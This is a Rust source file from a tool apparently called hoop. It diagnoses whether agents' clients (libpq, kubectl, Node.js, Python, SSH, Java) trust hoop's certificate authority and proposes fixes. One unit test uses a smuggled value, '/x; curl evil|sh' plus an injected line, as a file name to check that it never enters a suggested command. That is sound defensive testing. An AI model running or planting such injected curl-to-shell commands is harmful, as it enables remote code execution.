//! Which client of which agent would take hoop for the server, and which would not.
//!
//! What a client trusts is a file as its own process sees it: below another root perhaps, and only if
//! its account may read it.

use std::collections::BTreeSet;
use std::path::{Path, PathBuf};

use nix::unistd::{Uid, User};

use super::finding::{Check, Finding, Remedy, advise, as_root, quoted, run};
use super::host::Host;
use super::processes::Process;
use super::views::{Read, Views};
use crate::cli::home::read_regular;
use crate::cli::trust::Ours;
use crate::cli::trust_ssh::SYSTEM as SYSTEM_KNOWN;
use crate::cli::{trust_kube, trust_ssh};
use crate::config::{Agent, Config, ProtocolKind, Resource};
use crate::terminate::authority::CERTIFICATE_FILE;
use crate::terminate::ssh::keys::HOST_AUTHORITY;

const TRUST: Check = Check::new(
    "trust",
    "hoop shows a certificate of its own: a client that verifies and does not know hoop's authority does not connect",
);
const SYSTEM_BUNDLES: [&str; 3] = [
    "/etc/ssl/certs/ca-certificates.crt",
    "/etc/pki/tls/certs/ca-bundle.crt",
    "/etc/ssl/cert.pem",
];
const SYSTEM_MEND: &str =
    "hoop trust show >/usr/local/share/ca-certificates/hoop.crt && update-ca-certificates";
const NO_PROCESS: &str = "no process of the agent runs";

/// Of one client: what it would do.
#[derive(Debug, PartialEq, Eq)]
enum Trusts {
    Yes(String),
    No(String, Remedy),
    Unknown(String, Remedy),
}

/// One agent's processes, and what they see.
struct Client<'h> {
    config: &'h Config,
    resource: &'h Resource,
    processes: Vec<&'h Process>,
    views: Views<'h>,
    homes: Vec<PathBuf>,
}

pub fn check(host: &Host) -> Vec<Finding> {
    let Some(config) = &host.config else {
        return Vec::new();
    };
    let mut found = Vec::new();
    for resource in &config.resources {
        for agent in &config.agents {
            for (client, trusts) in clients(host, config, resource, agent) {
                let about = format!("resource {}, agent {}, {client}", resource.name, agent.name);
                found.push(judge(trusts).about(about));
            }
        }
    }
    found
}

fn judge(trusts: Trusts) -> Finding {
    match trusts {
        Trusts::Yes(how) => TRUST.ok(how),
        Trusts::No(why, remedy) => TRUST.warn(why, remedy),
        Trusts::Unknown(why, remedy) => TRUST.unknown(why, remedy),
    }
}

fn clients(
    host: &Host,
    config: &Config,
    resource: &Resource,
    agent: &Agent,
) -> Vec<(&'static str, Trusts)> {
    let processes = host.processes_of(agent);
    if processes.iter().any(|process| !process.is_readable()) {
        let why = "its processes' environment may not be read".to_owned();
        return vec![("every client", Trusts::Unknown(why, as_root()))];
    }
    let client = Client {
        config,
        resource,
        views: Views::of(&processes),
        homes: homes(&processes),
        processes,
    };
    match resource.protocol {
        ProtocolKind::Ssh => vec![("ssh", client.ssh())],
        ProtocolKind::Postgres | ProtocolKind::Kubernetes => {
            let path = config.worker.state.join(CERTIFICATE_FILE);
            let ours = match read_regular(&path).as_deref().map(Ours::of) {
                Some(Ok(ours)) => ours,
                _ => {
                    let why = format!("hoop's authority cannot be read from {}", path.display());
                    return vec![("every client", Trusts::Unknown(why, as_root()))];
                }
            };
            client.of_tls(&ours)
        }
    }
}

fn homes(processes: &[&Process]) -> Vec<PathBuf> {
    let uids: BTreeSet<u32> = processes.iter().map(|p| p.uids[1]).collect();
    let home = |uid: u32| Some(User::from_uid(Uid::from_raw(uid)).ok()??.dir);
    uids.into_iter().filter_map(home).collect()
}

impl Client<'_> {
    fn of_tls(&self, ours: &Ours) -> Vec<(&'static str, Trusts)> {
        let mut found = match self.resource.protocol {
            ProtocolKind::Kubernetes => vec![
                ("kubectl, helm, client libraries", self.kubeconfig(ours)),
                (
                    "Python's requests",
                    self.listed(ours, &["REQUESTS_CA_BUNDLE", "CURL_CA_BUNDLE"]),
                ),
            ],
            _ => vec![
                ("libpq", self.libpq(ours)),
                (
                    "the system's list (Go, Rust, Python's ssl)",
                    self.listed(ours, &["SSL_CERT_FILE"]),
                ),
                ("Node.js", self.node(ours)),
            ],
        };
        // Its list is a file in a form of its own, wherever its own options say.
        if self.processes.iter().any(|process| process.comm == "java") {
            let why = "Java's own list of authorities is not looked at".to_owned();
            let how = advise("`keytool -list -keystore cacerts` of its Java: see TRUST.md");
            found.push(("Java", Trusts::Unknown(why, how)));
        }
        found
    }

    /// psql, psycopg and all that is libpq: `PGSSLROOTCERT`, or a file in the home.
    fn libpq(&self, ours: &Ours) -> Trusts {
        let named = self.named("PGSSLROOTCERT");
        if named.contains("system") {
            return self.listed(ours, &["SSL_CERT_FILE"]);
        }
        if let Some(judged) = self.all_of(ours, "PGSSLROOTCERT", &named) {
            return judged;
        }
        if self.homes.is_empty() {
            let why = format!("{NO_PROCESS}, so its home is not known");
            return Trusts::Unknown(why, start());
        }
        for home in &self.homes {
            let file = home.join(".postgresql/root.crt");
            let shown = file.display();
            match self.views.read(&file, &|text| ours.stand_in(text)) {
                Read::Good => {}
                Read::Bad => {
                    let why = format!("{shown} does not have hoop's authority");
                    return Trusts::No(why, in_home(home));
                }
                Read::Closed => {
                    let why = format!("the agent's account may not read {shown}");
                    return Trusts::No(why, in_home(home));
                }
                Read::Absent => {
                    return Trusts::No(
                        format!(
                            "there is no {shown} for it: it connects as long as it verifies nothing (sslmode below verify-ca)"
                        ),
                        in_home(home),
                    );
                }
                Read::Unknown => return unseen(&file),
            }
        }
        let shown: Vec<String> = self.homes.iter().map(|h| h.display().to_string()).collect();
        Trusts::Yes(format!(
            "{}: .postgresql/root.crt has hoop's authority",
            shown.join(", ")
        ))
    }

    /// kubectl and its kin: the first file of `KUBECONFIG`, or the one in the home.
    fn kubeconfig(&self, ours: &Ours) -> Trusts {
        let named = self
            .processes
            .iter()
            .filter_map(|p| p.variable("KUBECONFIG"));
        let named = named.filter_map(|list| list.split(':').next().map(PathBuf::from));
        let named: BTreeSet<PathBuf> = named.collect();
        let own = self
            .homes
            .iter()
            .map(|home| (home.join(".kube/config"), Some(home)));
        let files = named.into_iter().map(|file| (file, None)).chain(own);
        let mut trusted = None;
        for (file, home) in files {
            let Some(text) = self.views.text(&file) else {
                continue;
            };
            let folder = file.parent().unwrap_or(Path::new("/"));
            let bundle = |path: &Path| self.views.text(&folder.join(path));
            match trust_kube::trusts(&text, self.resource, ours, &bundle) {
                Some(true) => trusted = Some(file),
                Some(false) => {
                    let why = format!("{} does not have hoop's authority for it", file.display());
                    let remedy = match home {
                        Some(home) => run(format!("hoop trust kubeconfig --home {}", word(home))),
                        None => advise(
                            "`hoop trust kubeconfig --ca-file FILE` for the bundle that it names; where it holds the authority itself, add what `hoop trust show` prints",
                        ),
                    };
                    return Trusts::No(why, remedy);
                }
                None => {}
            }
        }
        match trusted {
            Some(file) => Trusts::Yes(format!("{} has hoop's authority", file.display())),
            None => Trusts::Unknown(
                "no kubeconfig that names this cluster was found".into(),
                advise("look again while the agent runs; `hoop trust kubeconfig` mends one"),
            ),
        }
    }

    /// Programs that go by the system's list, or by the one that a variable names in its place.
    fn listed(&self, ours: &Ours, variables: &[&str]) -> Trusts {
        for variable in variables {
            let named = self.named(variable);
            if let Some(judged) = self.all_of(ours, variable, &named) {
                return judged;
            }
        }
        for path in SYSTEM_BUNDLES {
            match self
                .views
                .read(Path::new(path), &|text| ours.stand_in(text))
            {
                Read::Absent => {}
                Read::Good => return Trusts::Yes(format!("{path} has hoop's authority")),
                Read::Bad => {
                    let why = format!("{path} does not have hoop's authority");
                    return Trusts::No(why, in_system());
                }
                Read::Closed => {
                    let why = format!("the agent's account may not read {path}");
                    return Trusts::No(why, run(format!("chmod a+r {path}")));
                }
                Read::Unknown => return unseen(Path::new(path)),
            }
        }
        Trusts::No("the system has no list of authorities".into(), in_system())
    }

    fn node(&self, ours: &Ours) -> Trusts {
        const VARIABLE: &str = "NODE_EXTRA_CA_CERTS";
        if self.processes.is_empty() {
            let why = format!("{NO_PROCESS}, so its environment is not known");
            return Trusts::Unknown(why, start());
        }
        let named = self.named(VARIABLE);
        self.all_of(ours, VARIABLE, &named).unwrap_or_else(|| {
            Trusts::No(
                format!("{VARIABLE} is not set"),
                advise("set Environment=NODE_EXTRA_CA_CERTS= in the agent's unit to the path that `hoop trust show --json` says"),
            )
        })
    }

    fn named(&self, variable: &str) -> BTreeSet<String> {
        let named = self.processes.iter().filter_map(|p| p.variable(variable));
        named.filter(|value| !value.is_empty()).collect()
    }

    /// Whether every list that a variable names has the authority; `None` where none is named. What an
    /// agent wrote there is shown, and is no part of a command.
    fn all_of(&self, ours: &Ours, variable: &str, files: &BTreeSet<String>) -> Option<Trusts> {
        let remedy = || {
            advise(format!(
                "put what `hoop trust show` prints into the file that {variable} names, and let the agent's account read it"
            ))
        };
        for file in files {
            let what = match self
                .views
                .read(Path::new(file), &|text| ours.stand_in(text))
            {
                Read::Good => continue,
                Read::Bad => "does not have hoop's authority",
                Read::Closed => "may not be read by the agent's account",
                Read::Absent => "is not there for it",
                Read::Unknown => return Some(unseen(Path::new(file))),
            };
            return Some(Trusts::No(
                format!("{file}, by {variable}, {what}"),
                remedy(),
            ));
        }
        let shown: Vec<&str> = files.iter().map(String::as_str).collect();
        let shown = shown.join(", ");
        (!files.is_empty())
            .then(|| Trusts::Yes(format!("{shown}, by {variable}, has hoop's authority")))
    }

    fn ssh(&self) -> Trusts {
        let path = self
            .config
            .worker
            .state
            .join(HOST_AUTHORITY)
            .with_extension("pub");
        let Some(key) = read_regular(&path) else {
            let why = format!(
                "hoop's SSH authority cannot be read from {}",
                path.display()
            );
            return Trusts::Unknown(why, as_root());
        };
        let patterns = trust_ssh::patterns_of(std::iter::once(self.resource));
        let known = |file: &Path| self.views.read(file, &|text| knows(text, &key, &patterns));
        if known(Path::new(SYSTEM_KNOWN)) == Read::Good {
            return Trusts::Yes(format!("{SYSTEM_KNOWN} has hoop's authority"));
        }
        let own = |home: &&PathBuf| known(&home.join(".ssh/known_hosts")) != Read::Good;
        match self.homes.iter().find(own) {
            _ if self.homes.is_empty() => Trusts::No(
                format!("{SYSTEM_KNOWN} does not have hoop's authority for it"),
                run("hoop trust ssh"),
            ),
            Some(home) => Trusts::No(
                format!(
                    "neither {SYSTEM_KNOWN} nor {} has hoop's authority for it where the agent may read it",
                    home.join(".ssh/known_hosts").display()
                ),
                run("hoop trust ssh").and("or, for this account alone, with --home and its home"),
            ),
            None => Trusts::Yes("the account's known hosts have hoop's authority".into()),
        }
    }
}

fn start() -> Remedy {
    advise("start the agent, and look again while it runs")
}

fn in_system() -> Remedy {
    run(SYSTEM_MEND).and("where the agent has a root of its own, do that in it")
}

/// The file is root's, and must be let be read.
fn in_home(home: &Path) -> Remedy {
    let (dir, below) = (word(home), word(&home.join(".postgresql")));
    run(format!("hoop trust postgres --home {dir} && chmod -R a+rX {below}"))
        .and("where the agent's unit hides homes (ProtectHome=), put it elsewhere and name it in PGSSLROOTCERT")
}

fn word(path: &Path) -> String {
    quoted(&path.display().to_string())
}

fn unseen(path: &Path) -> Trusts {
    let why = format!(
        "{} cannot be looked at as the agent sees it",
        path.display()
    );
    Trusts::Unknown(why, as_root())
}

/// Whether the known hosts say of every one of these that this authority vouches for it.
fn knows(known_hosts: &str, authority: &str, patterns: &[String]) -> bool {
    let key: Vec<&str> = authority.split_whitespace().take(2).collect();
    let named = |line: &str| {
        let mut words = line.split_whitespace();
        let is_it = words.next() == Some("@cert-authority");
        let hosts = words.next().unwrap_or_default().to_owned();
        (is_it && words.take(2).eq(key.iter().copied())).then_some(hosts)
    };
    let hosts: Vec<String> = known_hosts.lines().filter_map(named).collect();
    let mut listed = hosts
        .iter()
        .flat_map(|hosts| hosts.split(','))
        .collect::<BTreeSet<_>>();
    listed.remove("");
    !key.is_empty()
        && patterns
            .iter()
            .all(|pattern| listed.contains(pattern.as_str()))
}

#[cfg(test)]
mod tests {
    use super::super::finding::State;
    use super::*;
    use crate::forward::fixture::{config, resource};
    use crate::terminate::authority::{Authority, Destinations};

    #[test]
    fn known_hosts_must_name_the_authority_for_every_pattern() {
        let key = "ssh-ed25519 AAAA hoop\n";
        let patterns = ["web1".to_owned(), "[web2]:2222".to_owned()];
        let knows = |text: &str| knows(text, key, &patterns);
        assert!(knows(
            "# x\n@cert-authority [web2]:2222,web1 ssh-ed25519 AAAA hoop-trust\n"
        ));
        assert!(!knows("@cert-authority web1 ssh-ed25519 AAAA\n"));
        assert!(!knows(
            "@cert-authority web1,[web2]:2222 ssh-ed25519 BBBB\n"
        ));
        assert!(!knows("web1,[web2]:2222 ssh-ed25519 AAAA\n"));
        assert!(!knows(""));
    }

    #[test]
    fn the_remedy_names_the_home() {
        let no = judge(Trusts::No("x".into(), in_home(Path::new("/home/bot"))));
        assert_eq!(no.state, State::Warn);
        let mend = "hoop trust postgres --home /home/bot && chmod -R a+rX /home/bot/.postgresql";
        assert_eq!(no.mend.as_deref(), Some(mend));
    }

    #[test]
    fn what_an_agent_names_is_in_no_command() {
        let (config, orders) = (config(Vec::new()), resource("orders", &["db.internal"]));
        let client = Client {
            config: &config,
            resource: &orders,
            processes: Vec::new(),
            views: Views::of(&[]),
            homes: Vec::new(),
        };
        let state = tempfile::tempdir().unwrap();
        let authority = Authority::open(state.path(), &Destinations::of(&config)).unwrap();
        let ours = Ours::of(&authority.ca_pem()).unwrap();
        let named = BTreeSet::from(["/x; curl evil|sh\n        mend: sh".to_owned()]);
        let judged = client.all_of(&ours, "PGSSLROOTCERT", &named).unwrap();
        let found = judge(judged);
        assert!(found.mend.is_none() && !found.advice.unwrap().contains("evil"));
        assert!(!found.seen.contains('\n'), "{}", found.seen);
    }
}
